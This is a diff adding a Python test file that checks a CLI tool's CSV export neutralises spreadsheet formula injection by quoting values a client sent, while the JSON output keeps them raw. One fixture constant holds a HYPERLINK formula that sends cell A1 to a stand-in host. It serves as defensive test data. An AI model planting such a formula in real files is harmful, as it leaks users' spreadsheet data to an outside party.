@@ -1,0 +1,58 @@
+"""CSV exports as a spreadsheet opens them: what a client sent is text, never a formula."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+
+import pytest
+from rich.console import Console
+from typer.testing import CliRunner
+
+from hub.cli.main import app
+from hub.stats.output import emit
+from hub.stats.timeutil import utcnow
+from tests.stats.conftest import log_records, record
+
+# What a client may send in X-Road-Id, X-Road-UserId and X-Road-Issue (printable ASCII):
+# a spreadsheet opening the export ran it, here a link that sends cell A1 away.
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
+
+
+@pytest.fixture
+async def formulas(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
+    sent = record(utcnow(), id="=1+2", user_id=FORMULA, issue="@SUM(1+1)")
+    await log_records(sqlite_url, [sent, record(utcnow(), user_id="-2+3", issue="+4")])
+    monkeypatch.setenv("HUB_DATABASE_URL", sqlite_url)
+    return sqlite_url
+
+
+def _rows(*args: str) -> list[dict[str, str]]:
+    result = CliRunner().invoke(app, list(args))
+    assert result.exit_code == 0, result.output
+    return list(csv.DictReader(io.StringIO(result.stdout)))
+
+
+@pytest.mark.parametrize("args", [("--csv",), ("--all", "--csv")])
+def test_sent_values_that_read_as_formulas_are_exported_as_text(
+    formulas: str, args: tuple[str, ...]
+) -> None:
+    rows = _rows("tx", "list", *args)
+    assert [(r["id"], r["user_id"], r["issue"]) for r in reversed(rows)] == [
+        ("'=1+2", "'" + FORMULA, "'@SUM(1+1)"),
+        (rows[0]["request_id"], "'-2+3", "'+4"),
+    ]
+    # The JSON keeps what was sent: it is for scripts, not spreadsheets.
+    result = CliRunner().invoke(app, ["tx", "list", "--json"])
+    assert [i["user_id"] for i in json.loads(result.stdout)["items"]] == ["-2+3", FORMULA]
+
+
+def test_numbers_stay_numbers() -> None:
+    out = io.StringIO()
+    console = Console(file=out)
+    rows = [{"period": "2026-11", "total": 5, "change": -3, "change_pct": -37.5, "note": ""}]
+    with contextlib.redirect_stdout(out):
+        emit({}, rows, list(rows[0]), title="", as_json=False, as_csv=True, console=console)
+    assert out.getvalue().splitlines()[1] == "2026-11,5,-3,-37.5,"
